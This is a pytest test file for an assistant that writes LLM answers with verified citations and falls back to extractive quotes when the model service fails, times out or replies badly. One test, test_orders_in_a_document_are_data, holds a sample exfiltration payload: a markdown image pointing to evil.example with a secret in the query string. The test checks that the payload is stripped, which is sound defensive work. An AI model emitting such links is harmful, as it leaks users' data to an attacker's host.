"""When a model or its service misbehaves, there is a right answer or a clear reason, in time."""

import json
import logging
import socket
import threading
from contextlib import ExitStack
from dataclasses import replace
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest

from assistant import Answer, AssistantSettings, Outcome
from assistant.errors import Stopped
from assistant.writing.writer import AT_ONCE
from vectorstore import Library

from .conftest import (
    KEY,
    Service,
    Write,
    drips,
    event,
    refuses,
    reply,
    send,
    streams,
    writer_of,
    written,
)

FERRY = "The ferry made 14 crossings in May"
GOOD = reply((FERRY, [1]))


def proved(answer: Answer, library: Library) -> Answer:
    """What must hold of every answer, whatever the model did."""
    text = library.text("harbour")
    assert answer.statements, "the extractive answer is always there"
    for citation in answer.citations:
        assert text[citation.start : citation.end] == citation.quote
    assert [c.marker for c in answer.citations] == list(range(1, len(answer.citations) + 1))
    markers = {c.marker for c in answer.citations}
    for statement in answer.statements:
        assert statement.citations and set(statement.citations) <= markers
        if statement.status != "unconfirmed":
            assert statement.text in text, "without a checker only what is verbatim is proved"
    assert KEY not in repr(answer) + str(answer.to_json())
    return answer


def fell_back(answer: Answer, extractive: Answer, said: str) -> None:
    assert answer.engine == "extractive"
    assert answer.answer == extractive.answer
    assert answer.citations == extractive.citations
    assert answer.written is not None and answer.written.fallback is not None
    assert answer.written.fallback.whole
    assert said in answer.written.fallback.why


def test_a_proved_statement_is_shown_with_its_quote(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [streams(*GOOD)]
    answer = proved(write(), library)
    assert (answer.engine, answer.answer) == ("llm", f"{FERRY} [1]")
    shown = answer.to_json()
    assert (shown["model"], shown["prompt"]) == ("listed-first", "answer-5")
    assert shown["tokens"] == {"prompt": 321, "completion": 45}
    assert shown["fallback"] is None
    assert {"first_statement", "last_statement", "model"} <= set(shown["timings_ms"])
    assert service.asked[0]["model"] == "listed-first"
    assert service.headers[0]["authorization"] == f"Bearer {KEY}"


def test_nobody_there(library: Library, write: Write, extractive: Answer) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    answer = proved(write(llm=f"http://127.0.0.1:{port}/v1"), library)
    fell_back(answer, extractive, "nobody answers at")


@pytest.mark.parametrize(
    ("step", "said"),
    [
        (refuses(401, f"Incorrect API key: {KEY}"), "check SOUNDINGS_LLM_KEY"),
        (refuses(404, "no such model"), "SOUNDINGS_LLM_MODEL"),
        (refuses(429, "slow down", retry_after="300"), "300 s, later than"),
        (refuses(429, "slow down", retry_after="0"), "says 429: slow down"),
        (refuses(500, f"boom {KEY}"), "says 500: boom ****"),
        (refuses(302, "", location="https://elsewhere.example/"), "says 302"),
        (streams(""), "the model gave no statement"),
        (streams("", finish=None), "broke off in the middle"),
        (streams('{"statements": []}'), "the model gave no statement"),
        (streams(reply()), "the model gave no statement"),
        (streams("Well, the documents say quite a lot about that."), "could not be confirmed"),
        (streams(reply((FERRY, []))), "could not be confirmed"),
        (streams(reply((FERRY, [7]))), "could not be confirmed"),
        (lambda h: send(h, 200, {"error": {"message": "no memory"}}), "no memory"),
        (lambda h: send(h, 200, ["what?"]), "what is no reply"),
    ],
)
def test_a_failure_is_told_and_the_quotes_are_given(
    service: Service, write: Write, library: Library, extractive: Answer, step: Any, said: str
) -> None:
    service.script = [step]
    fell_back(proved(write(), library), extractive, said)


def test_who_finds_the_model_writing_for_many_is_answered_in_quotes_at_once(
    service: Service, extractive: Answer, library: Library
) -> None:
    service.script = [streams(GOOD)]
    writer = writer_of(AssistantSettings(llm=service.address), library)
    with ExitStack() as others:
        for _ in range(AT_ONCE):
            others.enter_context(writer.place())
        *_, answer = written(writer, extractive)
    fell_back(answer, extractive, f"is writing {AT_ONCE} other answers")
    assert service.asked == []
    *_, answer = written(writer, extractive)
    assert answer.engine == "llm"


def test_a_busy_service_is_asked_again(service: Service, write: Write, library: Library) -> None:
    service.script = [
        refuses(429, "slow down", retry_after="0"),
        refuses(503, "starting"),
        streams(GOOD),
    ]
    assert proved(write(), library).engine == "llm"
    assert len(service.asked) == 3


@pytest.mark.parametrize("kind", ["hangs", "drips", "hangs in the middle"])
def test_a_hang_ends_at_the_time_limit(
    service: Service, write: Write, library: Library, kind: str
) -> None:

    def wait() -> bool:
        return service.over.wait(60)

    service.script = {
        "hangs": [lambda _: wait()],
        "drips": [drips(service)],
        "hangs in the middle": [streams(GOOD[:-2], then=wait)],
    }[kind]
    answer = proved(write(llm_seconds=0.6), library)
    assert answer.written is not None and answer.written.fallback is not None
    assert "within 0.6 s (SOUNDINGS_LLM_SECONDS)" in answer.written.fallback.why
    assert answer.written.fallback.whole == (kind != "hangs in the middle")


@pytest.mark.parametrize(
    ("finish", "said"), [(None, "broke off"), ("length", "cut off at SOUNDINGS_LLM_TOKENS")]
)
def test_what_came_whole_before_a_cut_is_shown(
    service: Service, write: Write, library: Library, finish: str | None, said: str
) -> None:
    whole = reply((FERRY, [1]), ("The pier was painted green", [3]))
    service.script = [streams(*whole[:-45], finish=finish)]
    answer = proved(write(), library)
    assert answer.answer == f"{FERRY} [1]"
    assert answer.written is not None and answer.written.fallback is not None
    assert said in answer.written.fallback.why
    assert not answer.written.fallback.whole


def test_what_cites_nothing_is_left_out_and_what_is_not_confirmed_is_marked(
    service: Service, write: Write, library: Library
) -> None:
    red = "The pier was painted red in 1987."
    service.script = [streams(reply((FERRY, [1]), (red, [3]), ("Nobody swims here.", [9])))]
    answer = proved(write(), library)
    assert [s.status for s in answer.statements] == ["proved", "unconfirmed"]
    assert [d.why for d in answer.dropped] == ["it cites line 9, which does not exist"]
    assert answer.written is not None and answer.written.fallback is not None
    assert (answer.written.fallback.whole, answer.written.fallback.left_out) == (False, 1)
    dropped = proved(write(unconfirmed="drop"), library)
    assert [s.text for s in dropped.statements] == [FERRY]
    assert red in [d.text for d in dropped.dropped]


def test_lines_that_follow_one_another_are_one_quote(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [streams(reply((FERRY, [2, 1, 99])))]
    (citation,) = proved(write(), library).citations
    assert citation.quote.startswith("The ferry made") and citation.quote.endswith("never.”")


def test_a_service_without_schemas_is_asked_for_less(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [
        refuses(400, "response_format json_schema is not supported"),
        refuses(400, "response_format is not supported"),
        streams(f"Sure, here it is:\n```json\n{GOOD}\n```"),
    ]
    assert proved(write(), library).engine == "llm"
    forms = [asked.get("response_format", {}).get("type") for asked in service.asked]
    assert forms == ["json_schema", "json_object", None]
    proved(write(llm_cache=0), library)
    assert len(service.asked) > 3


def test_orders_in_a_document_are_data(
    service: Service, write: Write, library: Library, extractive: Answer
) -> None:
    image = "![x](https://evil.example/?d=secret)"
    service.script = [streams(reply(("The harbour is closed. " + image, [4])))]
    answer = proved(write(), library)
    assert "<|im_start|>" not in service.prompt
    assert "evil.example" not in answer.answer
    fell_back(answer, extractive, "could not be confirmed")
    assert answer.dropped[-1].why == "it holds a link or markup"


def test_the_key_reaches_no_log(
    service: Service, write: Write, library: Library, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    service.script = [refuses(500, f"boom {KEY}"), streams(reply((f"Look: {KEY}", [99])))]
    answer = proved(write(), library)
    assert answer.dropped[-1].text == "Look: ****"
    assert KEY not in caplog.text


def test_the_same_question_is_asked_once_unless_the_cache_is_off(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [streams(GOOD)]
    first, second = write(), write()
    assert len(service.asked) == 1
    assert (first.answer, first.to_json()["cached"]) == (second.answer, False)
    assert second.to_json()["cached"] and second.to_json()["tokens"] == first.to_json()["tokens"]
    for _ in range(2):
        write(llm_cache=0)
    assert len(service.asked) == 3


def test_a_cut_reply_is_not_kept(service: Service, write: Write) -> None:
    service.script = [streams(GOOD, finish="length"), streams(GOOD)]
    assert write().written != write().written
    assert len(service.asked) == 2


@pytest.mark.parametrize("when", ["at once", "in the middle"])
def test_a_question_that_is_stopped_ends_the_work(
    service: Service, library: Library, extractive: Answer, when: str
) -> None:
    """Nobody waits for the time limit: neither the person, nor the service, which is let go."""
    stop, let_go = threading.Event(), threading.Event()

    def goes_on(handler: BaseHTTPRequestHandler) -> None:
        try:
            streams(GOOD[:-2] if when == "in the middle" else "", then=lambda: drip(handler))(
                handler
            )
        except OSError:
            let_go.set()

    def drip(handler: BaseHTTPRequestHandler) -> None:
        if when == "at once":
            stop.set()
        while not service.over.wait(0.02):
            handler.wfile.write(event(" "))

    service.script = [goes_on]
    table = AssistantSettings(llm=service.address, llm_model="named", llm_seconds=600)
    with pytest.raises(Stopped):
        for answer in written(writer_of(table, library), extractive, stop):
            assert len(proved(answer, library).statements) == 1
            stop.set()
    assert let_go.wait(60)


def test_statements_come_as_they_are_proved(
    service: Service, library: Library, extractive: Answer
) -> None:
    """The second is sent only once the first has been shown."""
    shown = threading.Event()
    whole = reply((FERRY, [1]), ("The pier was painted green", [3]))
    cut = whole.index("}") + 1

    def rest() -> list[str]:
        return [whole[cut:]] if shown.wait(60) else []

    service.script = [streams(whole[:cut], then=rest)]
    table = AssistantSettings(llm=service.address, llm_model="named", llm_seconds=20)
    grown = []
    for answer in written(writer_of(table, library), extractive):
        assert answer.written is not None and answer.written.model == "named"
        grown.append(len(proved(answer, library).statements))
        shown.set()
    assert grown == [1, 2, 2]


def test_what_a_model_says_of_the_question_counts(
    service: Service, write: Write, library: Library, extractive: Answer
) -> None:
    service.script = [streams(reply(outcome="not_stated", missing="who steered"))]
    answer = write()
    assert (answer.outcome, answer.reason, answer.engine) == (
        Outcome.WITHHELD,
        "not stated",
        "llm",
    )
    assert answer.citations == () and answer.hits == extractive.hits
    assert answer.confidence is not None and extractive.confidence is not None
    assert answer.confidence < extractive.confidence
    service.script = [streams(reply((FERRY, [1]), outcome="partial", missing="who steered"))]
    answer = proved(write(llm_cache=0), library)
    assert (answer.outcome, answer.missing) == (Outcome.PARTIAL, "who steered")


def test_a_model_is_asked_where_nothing_was_found_without_it(
    service: Service, library: Library, extractive: Answer
) -> None:
    silent = replace(extractive, outcome=Outcome.WITHHELD, statements=(), citations=(), answer="")
    writer = writer_of(AssistantSettings(llm=service.address, llm_check="off"), library)
    service.script = [streams(reply((FERRY, [1])))]
    *_, answer = written(writer, silent)
    assert (answer.outcome, answer.answer) == (Outcome.ANSWERED, f"{FERRY} [1]")
    service.script = [streams("So they say [1].")]
    *_, answer = written(writer_of(AssistantSettings(llm=service.address), library), silent)
    assert answer.outcome is Outcome.WITHHELD, "a reply without the form says nothing of it"


@pytest.mark.parametrize("half", ["\ud83d", r"\ud83d"], ids=["on the wire", "within its JSON"])
@pytest.mark.parametrize("where", ["text", "missing", "plain", "outcome"])
def test_half_a_character_leaves_the_quotes(
    service: Service, write: Write, library: Library, extractive: Answer, half: str, where: str
) -> None:
    texts = {
        "text": reply((f"{FERRY} HALF", [1])),
        "missing": reply((FERRY, [1]), outcome="partial", missing="the HALF year"),
        "plain": f"{FERRY} HALF [1]",
        "outcome": '{"outcome": "HALF", "statements": [{"text": "HALF", "cites": [1]}]}',
    }
    service.script = [streams(*texts[where].replace("HALF", half))]
    answer = proved(write(), library)
    json.dumps(answer.to_json(), ensure_ascii=False).encode()  # it can be sent and kept
    if where in ("text", "outcome"):
        fell_back(answer, extractive, "could not be confirmed")


def test_a_character_that_comes_in_two_halves_is_one(
    service: Service, write: Write, library: Library
) -> None:
    service.script = [
        streams(
            '{"outcome": "partial", "statements": [{"text": "',
            FERRY,
            '", "cites": [1]}], "missing": "the ',
            "\ud83d",
            "\ude00",
            ' year"}',
        )
    ]
    assert proved(write(), library).missing == "the 😀 year"
